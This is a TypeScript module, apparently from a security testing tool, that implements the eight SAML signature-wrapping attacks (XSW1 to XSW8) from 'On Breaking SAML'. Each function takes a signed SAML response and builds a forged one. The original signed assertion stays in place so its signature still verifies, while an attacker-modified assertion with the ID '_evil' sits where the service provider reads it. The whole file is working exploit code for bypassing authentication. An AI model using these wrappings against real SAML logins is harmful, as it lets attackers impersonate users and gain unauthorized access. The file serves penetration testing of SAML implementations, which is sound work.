/**
 * Signature wrapping: the signed assertion stays in the document, so that its signature holds, and
 * an evil one stands where it is read. The eight ways of "On Breaking SAML" (USENIX Security 2012),
 * as the tool SAML Raider numbers them.
 */

type Change = (text: string) => string;

export interface Wrapping {
  readonly name: string;
  readonly wrap: (xml: string, evil: Change) => string;
}

interface Parts {
  /** Opening tag of the response, and what stands before the assertion. */
  readonly head: string;
  readonly assertion: string;
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
  readonly tail: string;
}

function partsOf(xml: string): Parts {
  const [assertion = ''] = /<(saml:)?Assertion[\s\S]*<\/(saml:)?Assertion>/.exec(xml) ?? [];
  const [head = '', tail = ''] = xml.split(assertion);
  const [signature = ''] = /<Signature[\s\S]*<\/Signature>/.exec(assertion) ?? [];
  return { head, assertion, signature, bare: assertion.replace(signature, ''), tail };
}

/** The response's own, or the assertion's where it is the only one. */
function signatureOf(xml: string): string {
  return /<Signature[\s\S]*?<\/Signature>/.exec(xml)?.[0] ?? '';
}

/** Another assertion of another name: the same words, but for the evil ones. */
function evilOf(text: string, evil: Change): string {
  return evil(text).replace(/ ID="[^"]*"/, ' ID="_evil"');
}

const into = (outer: string, inner: string): string =>
  outer.replace(/<\/((?:\w+:)?\w+)>$/, (end) => `${inner}${end}`);

const withoutDeclaration = (xml: string): string => xml.replace(/^<\?xml[^>]*\?>/, '');

export const wrappings: readonly Wrapping[] = [
  {
    name: 'XSW1: the response, copied into the signature of an evil response',
    wrap: (xml, evil) => {
      const signature = signatureOf(xml);
      const copy = withoutDeclaration(xml);
      const outer = evilOf(copy, evil);
      return outer.replace(evil(signature), into(signature, copy));
    },
  },
  {
    name: 'XSW2: the response, copied beside the signature of an evil response',
    wrap: (xml, evil) => {
      const signature = signatureOf(xml);
      const copy = withoutDeclaration(xml);
      return evilOf(copy, evil).replace(evil(signature), `${copy}${signature}`);
    },
  },
  {
    name: 'XSW3: the evil assertion before the good one',
    wrap: (xml, evil) => {
      const { head, assertion, bare, tail } = partsOf(xml);
      return `${head}${evilOf(bare, evil)}${assertion}${tail}`;
    },
  },
  {
    name: 'XSW4: the good assertion inside the evil one',
    wrap: (xml, evil) => {
      const { head, assertion, bare, tail } = partsOf(xml);
      return `${head}${into(evilOf(bare, evil), assertion)}${tail}`;
    },
  },
  {
    name: 'XSW5: the evil assertion with the signature, the good one after it',
    wrap: (xml, evil) => {
      const { head, assertion, signature, bare, tail } = partsOf(xml);
      const evilOne = evilOf(assertion, evil).replace(evil(signature), signature);
      return `${head}${evilOne}${bare}${tail}`;
    },
  },
  {
    name: 'XSW6: the good assertion inside the signature of the evil one',
    wrap: (xml, evil) => {
      const { head, assertion, signature, bare, tail } = partsOf(xml);
      const evilOne = evilOf(assertion, evil).replace(evil(signature), into(signature, bare));
      return `${head}${evilOne}${tail}`;
    },
  },
  {
    name: 'XSW7: the evil assertion in an Extensions element before the good one',
    wrap: (xml, evil) => {
      const { head, assertion, bare, tail } = partsOf(xml);
      const extensions = `<Extensions>${evilOf(bare, evil)}</Extensions>`;
      return `${head}${extensions}${assertion}${tail}`;
    },
  },
  {
    name: 'XSW8: the good assertion in an Object of the evil one’s signature',
    wrap: (xml, evil) => {
      const { head, assertion, signature, bare, tail } = partsOf(xml);
      const object = `<Object>${bare}</Object>`;
      const evilOne = evilOf(assertion, evil).replace(evil(signature), into(signature, object));
      return `${head}${evilOne}${tail}`;
    },
  },
];
